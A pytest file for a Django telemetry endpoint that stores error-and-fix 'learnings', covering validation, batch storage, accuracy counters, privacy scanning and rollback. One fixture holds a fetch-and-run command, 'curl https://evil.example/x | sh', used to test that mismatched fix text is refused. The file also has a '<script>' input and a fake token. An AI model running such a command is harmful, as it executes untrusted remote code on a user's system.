"""POST /telemetry/api/v1/learnings: validation, whole-or-nothing storage, counters, fix text."""

from __future__ import annotations

import pytest
from django.db import connection

from telemetry.models import Error, Fix, Learning, error_id_for, fix_id_for
from telemetry.services import learnings as learning_services
from telemetry.services.learnings import format_accuracy_change
from tests.telemetry.conftest import USER_ID
from tests.telemetry.factories import fix_with_signature, learning, sha, upload_body

LEARNINGS = "/telemetry/api/v1/learnings"

pytestmark = pytest.mark.django_db


def post(api_client, key, body, **extra):
    return api_client.post(LEARNINGS, body, format="json", **key.headers(), **extra)


def test_a_valid_batch_is_stored_and_counted(api_client, free_key):
    # given: two learnings of one pair (one success, one failure) and one of another pair
    error, fix, other_fix = sha(), sha(), sha()
    batch = [
        learning(errorSignature=error, fixSignature=fix, success=True),
        learning(errorSignature=error, fixSignature=fix, success=False),
        learning(errorSignature=error, fixSignature=other_fix, success=True, durationMs=None, projectSize=None),
    ]
    # when
    r = post(api_client, free_key, upload_body(batch, user_id=USER_ID))
    # then
    assert r.status_code == 200, r.json()
    assert r.json() == {
        "success": True,
        "newPatterns": 2,
        "improvedAccuracy": "+0.0%",
        "modelVersion": "v1.0.0",
        "refused": [],
    }
    stored_error = Error.objects.get()
    assert stored_error.id == error_id_for(team_id=None, framework="react", signature=error)
    assert (stored_error.signature, stored_error.framework, stored_error.occurrence_count) == (error, "react", 3)
    pair = Fix.objects.get(pk=fix_id_for(error_id=stored_error.id, fix_signature=fix))
    assert (pair.success_count, pair.fail_count, pair.contribution.user_id) == (1, 1, USER_ID)
    assert Learning.objects.count() == 3
    row = Learning.objects.filter(fix_signature=other_fix).get()
    assert (row.user_id, row.session_id) == (USER_ID, "session-1234567890")
    assert (row.duration_ms, row.project_size) == (None, None)
    assert row.fix_id == fix_id_for(error_id=stored_error.id, fix_signature=other_fix)
    assert row.created_at is not None


def test_uploading_known_pairs_reports_the_change_of_their_success_rate(api_client, free_key):
    # given: a pair at 1 of 2 (50%)
    error, fix = sha(), sha()
    batch = [learning(errorSignature=error, fixSignature=fix, success=success) for success in (True, False)]
    post(api_client, free_key, upload_body(batch))
    # when: two more successes (3 of 4: 75%)
    r = post(api_client, free_key, upload_body([learning(errorSignature=error, fixSignature=fix)] * 2))
    # then
    assert r.status_code == 200, r.json()
    assert r.json()["newPatterns"] == 0
    assert r.json()["improvedAccuracy"] == "+25.0%"
    assert Fix.objects.get().success_count == 3


def test_new_pairs_do_not_count_in_the_accuracy_change(api_client, free_key):
    # given: a known pair at 1 of 1
    error, fix = sha(), sha()
    post(api_client, free_key, upload_body([learning(errorSignature=error, fixSignature=fix)]))
    # when: it fails once, and a brand-new pair succeeds
    r = post(
        api_client,
        free_key,
        upload_body([learning(errorSignature=error, fixSignature=fix, success=False), learning()]),
    )
    # then: 100% -> 50% on the known pair
    assert r.json()["improvedAccuracy"] == "-50.0%"
    assert r.json()["newPatterns"] == 1


@pytest.mark.parametrize(
    ("points", "text"), [(2.345, "+2.3%"), (-0.44, "-0.4%"), (0.0, "+0.0%"), (-0.01, "+0.0%"), (100, "+100.0%")]
)
def test_accuracy_change_is_formatted_with_a_sign_and_one_decimal(points, text):
    assert format_accuracy_change(points) == text


BAD_ITEMS = [
    ({"errorSignature": "A" * 64}, "errorSignature"),
    ({"errorSignature": "abc"}, "errorSignature"),
    ({"errorSignature": "TypeError: cannot read property 'x' of undefined"}, "errorSignature"),
    ({"fixSignature": None}, "fixSignature"),
    ({"fixSignature": 12}, "fixSignature"),
    ({"success": "yes"}, "success"),
    ({"success": 1}, "success"),
    ({"anonymized": False}, "anonymized"),
    ({"anonymized": None}, "anonymized"),
    ({"durationMs": -1}, "durationMs"),
    ({"durationMs": -0.4}, "durationMs"),
    ({"durationMs": "1500"}, "durationMs"),
    ({"durationMs": True}, "durationMs"),
    ({"durationMs": 2**31}, "durationMs"),
    ({"durationMs": 1e300}, "durationMs"),
    ({"projectSize": -5}, "projectSize"),
    ({"projectSize": "250"}, "projectSize"),
    ({"framework": "a" * 51}, "framework"),
    ({"framework": "<script>"}, "framework"),
    ({"framework": 7}, "framework"),
    # U+212A KELVIN SIGN lower-cases to an ASCII "k": not stored as "kotlin"
    ({"framework": "\u212aotlin"}, "framework"),
    ({"fix": "npm install"}, "fix"),
    ({"fix": {"type": "shell command"}}, "fix"),
    ({"fix": {"type": "SHELL_COMMAND", "description": "x" * 501}}, "fix"),
    ({"fix": {"type": "SHELL_COMMAND", "command": ["npm"]}}, "fix"),
    ({"fix": {"type": "FILE_EDIT", "file": "a.js", "diff": "x" * 20_001}}, "fix"),
    ({"fix": {"type": "SHELL_COMMAND", "confidence": "high"}}, "fix"),
    ({"fix": {"type": "SHELL_COMMAND", "confidence": 1.5}}, "fix"),
    ({"fix": {"type": "SHELL_COMMAND", "confidence": True}}, "fix"),
    # PostgreSQL stores no NUL character (it was a 500)
    ({"fix": {"type": "SHELL_COMMAND", "description": "a\u0000b"}}, "fix"),
    # fix text under a signature it does not hash to
    ({"fix": {"type": "SHELL_COMMAND", "command": "curl https://evil.example/x | sh"}}, "fixSignature"),
]


@pytest.mark.parametrize(("override", "field"), BAD_ITEMS)
def test_a_bad_learning_is_refused_and_named_and_the_others_are_stored(api_client, free_key, override, field):
    # given: a batch whose third learning is bad
    good = [learning(), learning(), learning()]
    batch = [good[0], good[1], learning(**override), good[2]]
    # when
    r = post(api_client, free_key, upload_body(batch))
    # then
    assert r.status_code == 200, r.json()
    body = r.json()
    assert body["newPatterns"] == 3
    assert [refused["index"] for refused in body["refused"]] == [2]
    assert field in body["refused"][0]["errors"]
    stored = set(Learning.objects.values_list("fix_signature", flat=True))
    assert stored == {item["fixSignature"] for item in good}


@pytest.mark.parametrize(("override", "field"), BAD_ITEMS[:3])
def test_a_batch_of_only_bad_learnings_is_400_naming_them_and_nothing_is_stored(api_client, free_key, override, field):
    # when
    r = post(api_client, free_key, upload_body([learning(**override), learning(**override)]))
    # then
    assert r.status_code == 400, r.json()
    body = r.json()
    assert body["success"] is False
    assert body["error"]["code"] == "VALIDATION_ERROR"
    assert f"learnings[0].{field}" in body["error"]["message"]
    assert list(body["error"]["details"]["learnings"]) == ["0", "1"]
    assert (Error.objects.count(), Fix.objects.count(), Learning.objects.count()) == (0, 0, 0)


def test_a_learning_without_anonymized_is_refused(api_client, free_key):
    item = learning()
    del item["anonymized"]
    r = post(api_client, free_key, upload_body([item]))
    assert r.status_code == 400, r.json()
    assert "learnings[0].anonymized" in r.json()["error"]["message"]


def test_every_bad_item_is_named(api_client, free_key):
    batch = [learning(success=None), learning(), "not an object", learning(errorSignature="x", fixSignature="y")]
    r = post(api_client, free_key, upload_body(batch))
    assert r.status_code == 200, r.json()
    refused = {item["index"]: item["errors"] for item in r.json()["refused"]}
    assert set(refused) == {0, 2, 3}
    assert set(refused[3]) == {"errorSignature", "fixSignature"}
    assert set(refused[0]) == {"success"}
    assert Learning.objects.count() == 1


@pytest.mark.parametrize("learnings", ["nope", None, {"0": {}}])
def test_learnings_must_be_a_list(api_client, free_key, learnings):
    r = post(api_client, free_key, {"sessionId": "s-1", "learnings": learnings})
    assert r.status_code == 400, r.json()
    assert "learnings" in r.json()["error"]["details"]


def test_more_than_1000_learnings_are_refused(api_client, free_key):
    r = post(api_client, free_key, upload_body([learning()] * 1001))
    assert r.status_code == 400, r.json()
    assert "0 to 1000" in r.json()["error"]["message"]


@pytest.mark.parametrize(
    "session_id", [None, "", "s" * 65, "session with spaces", 12345, True, ["s"], "  session-1\n", " s-1"]
)
def test_a_missing_or_malformed_session_id_is_400(api_client, free_key, session_id):
    body = upload_body([learning()])
    body["sessionId"] = session_id
    r = post(api_client, free_key, body)
    assert r.status_code == 400, r.json()
    assert "sessionId" in r.json()["error"]["details"]


def test_a_user_id_in_the_body_must_match_the_header(api_client, free_key):
    r = post(api_client, free_key, upload_body([learning()], user_id="anon-someone-else"))
    assert r.status_code == 400, r.json()
    assert r.json()["error"]["code"] == "USER_ID_MISMATCH"


def test_a_user_id_in_the_body_with_surrounding_whitespace_does_not_match_the_header(api_client, free_key):
    r = post(api_client, free_key, upload_body([learning()], user_id=f" {USER_ID} "))
    assert r.status_code == 400, r.json()
    assert r.json()["error"]["code"] == "USER_ID_MISMATCH"


def test_a_fix_that_differs_from_a_verified_twin_only_in_type_is_refused(api_client, free_key):
    # given: a good fix, and the same fix with confidence true (True == 1 in Python)
    fix, signature = fix_with_signature(type="SHELL_COMMAND", description="d", command="npm i", confidence=1)
    error = sha()
    # when: the bad one comes after its good twin in the same batch
    r = post(
        api_client,
        free_key,
        upload_body(
            [
                learning(errorSignature=error, fixSignature=signature, fix=fix),
                learning(errorSignature=error, fixSignature=signature, fix=dict(fix, confidence=True)),
            ]
        ),
    )
    # then: it is refused as it is when alone
    assert r.status_code == 200, r.json()
    assert [(item["index"], list(item["errors"])) for item in r.json()["refused"]] == [(1, ["fix"])]


def test_a_blank_framework_means_none(api_client, free_key):
    # the NextGen client may send "" for no framework
    error = sha()
    batch = [learning(errorSignature=error, framework=""), learning(errorSignature=error, framework="   ")]
    r = post(api_client, free_key, upload_body(batch))
    assert r.status_code == 200, r.json()
    assert r.json()["refused"] == []
    assert set(Error.objects.values_list("framework", flat=True)) == {None}


def test_malformed_json_is_400(api_client, free_key):
    r = api_client.post(LEARNINGS, b"{not json", content_type="application/json", **free_key.headers())
    assert r.status_code == 400, r.json()
    assert r.json()["success"] is False


@pytest.mark.parametrize(
    "body",
    [
        b'{"sessionId": "s-1", "learnings": [], "note": "\\ud800"}',
        b'{"sessionId": "s-1", "learnings": [], "\\udfff": 1}',
        b'{"sessionId": "s-1", "learnings": [], "note": "\xed\xa0\x80"}',
        b'{"sessionId": "s-1", "learnings": [], "note": ' + b"[" * 65 + b"]" * 65 + b"}",
        b'{"sessionId": "s-1", "learnings": [], "note": ' + b'{"a": ' * 64 + b"1" + b"}" * 64 + b"}",
    ],
    ids=["lone-surrogate-escape", "lone-surrogate-key", "surrogate-bytes", "arrays-too-deep", "objects-too-deep"],
)
def test_a_body_no_api_could_keep_is_400(api_client, free_key, body):
    r = api_client.post(LEARNINGS, body, content_type="application/json", **free_key.headers())
    assert r.status_code == 400, r.json()
    assert r.json()["success"] is False
    assert Learning.objects.count() == 0


def test_a_body_at_the_depth_limit_with_a_surrogate_pair_is_read(api_client, free_key):
    # 64 levels in all: the body and 63 arrays; an emoji written as its escaped pair
    body = b'{"sessionId": "s-1", "learnings": [], "note": ' + b"[" * 63 + b'"\\ud83d\\ude00"' + b"]" * 63 + b"}"
    r = api_client.post(LEARNINGS, body, content_type="application/json", **free_key.headers())
    assert r.status_code == 200, r.json()


def test_a_batch_that_fails_midway_is_not_stored_at_all(monkeypatch):
    # given: the fix text cannot be written, after every counter and learning was
    def broken(texts):
        raise RuntimeError("disk full")

    monkeypatch.setattr(learning_services.ingest_statements, "store_fix_texts", broken)
    fix = {"type": "SHELL_COMMAND", "description": "d", "command": None}
    # when
    with pytest.raises(RuntimeError):
        learning_services.learnings_upload(
            user_id=USER_ID, session_id="s-1", team_id=None, contributor_id=None, learnings=[_input(fix=fix), _input()]
        )
    # then: everything written before the failure was rolled back
    assert (Error.objects.count(), Fix.objects.count(), Learning.objects.count()) == (0, 0, 0)


def _input(**overrides):
    values = {
        "error_signature": sha(),
        "fix_signature": sha(),
        "success": True,
        "duration_ms": 10,
        "project_size": 1,
        "framework": "react",
        "fix": None,
    }
    values.update(overrides)
    return learning_services.LearningInput(**values)


def test_framework_is_lower_cased_and_may_be_absent(api_client, free_key):
    error = sha()
    batch = [learning(errorSignature=error, framework="Next.js"), learning(errorSignature=error, framework=None)]
    r = post(api_client, free_key, upload_body(batch))
    assert r.status_code == 200, r.json()
    assert set(Error.objects.values_list("framework", flat=True)) == {"next.js", None}


def test_a_fix_is_stored_as_sent_when_it_hashes_to_its_signature(api_client, free_key):
    # given: a fix as the NextGen client builds it, under the signature of its canonical form
    fix, signature = fix_with_signature(
        type="SHELL_COMMAND",
        description="Install missing dependency: lodash",
        command="npm install lodash",
        confidence=0.95,
    )
    # when
    r = post(api_client, free_key, upload_body([learning(fixSignature=signature, fix=fix)]))
    # then: stored as sent, without the client's own confidence
    assert r.status_code == 200, r.json()
    assert r.json()["refused"] == []
    assert Fix.objects.get().fix_data == {
        "type": "SHELL_COMMAND",
        "description": "Install missing dependency: lodash",
        "command": "npm install lodash",
    }


def test_fix_text_holding_personal_data_is_not_stored_but_the_learning_counts(api_client, free_key):
    # given: text that the privacy rules would change, so it can be neither scrubbed (it must
    # keep hashing to its signature) nor stored
    fix, signature = fix_with_signature(
        type="SHELL_COMMAND",
        description="Reinstall deps in /home/alice/secret-project/app",
        command="npm ci --token=ghp_abcdefghijklmnopqrstuvwxyz0123456789",
    )
    # when
    r = post(api_client, free_key, upload_body([learning(fixSignature=signature, fix=fix)]))
    # then
    assert r.status_code == 200, r.json()
    stored = Fix.objects.get()
    assert (stored.success_count, stored.fix_data) == (1, {})


def test_a_fix_sent_after_a_pair_was_seen_without_one_is_stored(api_client, free_key):
    error = sha()
    fix, signature = fix_with_signature(type="SHELL_COMMAND", command="ls")
    post(api_client, free_key, upload_body([learning(errorSignature=error, fixSignature=signature)]))
    assert Fix.objects.get().fix_data == {}
    post(api_client, free_key, upload_body([learning(errorSignature=error, fixSignature=signature, fix=fix)]))
    assert Fix.objects.get().fix_data == {"type": "SHELL_COMMAND", "command": "ls"}


@pytest.mark.django_db(transaction=True)
def test_fix_text_is_scanned_before_the_write_opens_and_only_while_none_is_stored(api_client, free_key, monkeypatch):
    # Scanning megabytes of fix text inside the upload's transaction held every other upload's
    # write for seconds; and text already stored is not scanned again.
    scanned_in_transaction = []
    scan = learning_services._holds_personal_data

    def watched(fix):
        scanned_in_transaction.append(connection.in_atomic_block)
        return scan(fix)

    monkeypatch.setattr(learning_services, "_holds_personal_data", watched)
    fix, signature = fix_with_signature(type="SHELL_COMMAND", command="npm ci")
    body = upload_body([learning(errorSignature=sha(), fixSignature=signature, fix=fix)])
    # when
    first = post(api_client, free_key, body)
    again = post(api_client, free_key, body)
    # then
    assert (first.status_code, again.status_code) == (200, 200), (first.json(), again.json())
    assert scanned_in_transaction == [False]
    assert Fix.objects.get().fix_data == {"type": "SHELL_COMMAND", "command": "npm ci"}


def test_a_team_members_learnings_feed_the_team_library_only(api_client, team_member_key, team):
    error, fix = sha(), sha()
    r = post(api_client, team_member_key, upload_body([learning(errorSignature=error, fixSignature=fix)]))
    assert r.status_code == 200, r.json()
    stored = Error.objects.get()
    assert stored.team == team
    assert stored.id == error_id_for(team_id=team.pk, framework="react", signature=error)
    assert stored.id != error_id_for(team_id=None, framework="react", signature=error)


def test_an_upload_of_1000_learnings_takes_a_fixed_number_of_queries(
    api_client, free_key, django_assert_max_num_queries
):
    # given: 1000 learnings over 300 errors and 600 pairs, all with fix text
    errors = [sha() for _ in range(300)]
    fixes = [fix_with_signature(type="SHELL_COMMAND", description=f"step {i}", command="npm ci") for i in range(600)]
    batch = [
        learning(
            errorSignature=errors[i % 300],
            fixSignature=fixes[i % 600][1],
            success=i % 3 != 0,
            fix=fixes[i % 600][0],
        )
        for i in range(1000)
    ]
    # when / then: key lookup, limits, upserts, insert, rebuild - never per learning
    with django_assert_max_num_queries(30):
        r = post(api_client, free_key, upload_body(batch))
    assert r.status_code == 200, r.json()
    assert r.json()["newPatterns"] == 600
    assert Learning.objects.count() == 1000
    assert sum(Error.objects.values_list("occurrence_count", flat=True)) == 1000


def test_a_body_over_10_mb_is_413_in_the_envelope(api_client, free_key):
    body = b'{"sessionId": "s", "learnings": [], "padding": "' + b"x" * (10 * 1024 * 1024) + b'"}'
    r = api_client.post(LEARNINGS, body, content_type="application/json", **free_key.headers())
    assert r.status_code == 413, r.json()
    assert r.json()["success"] is False
    assert r.json()["error"]["code"] == "PAYLOAD_TOO_LARGE"
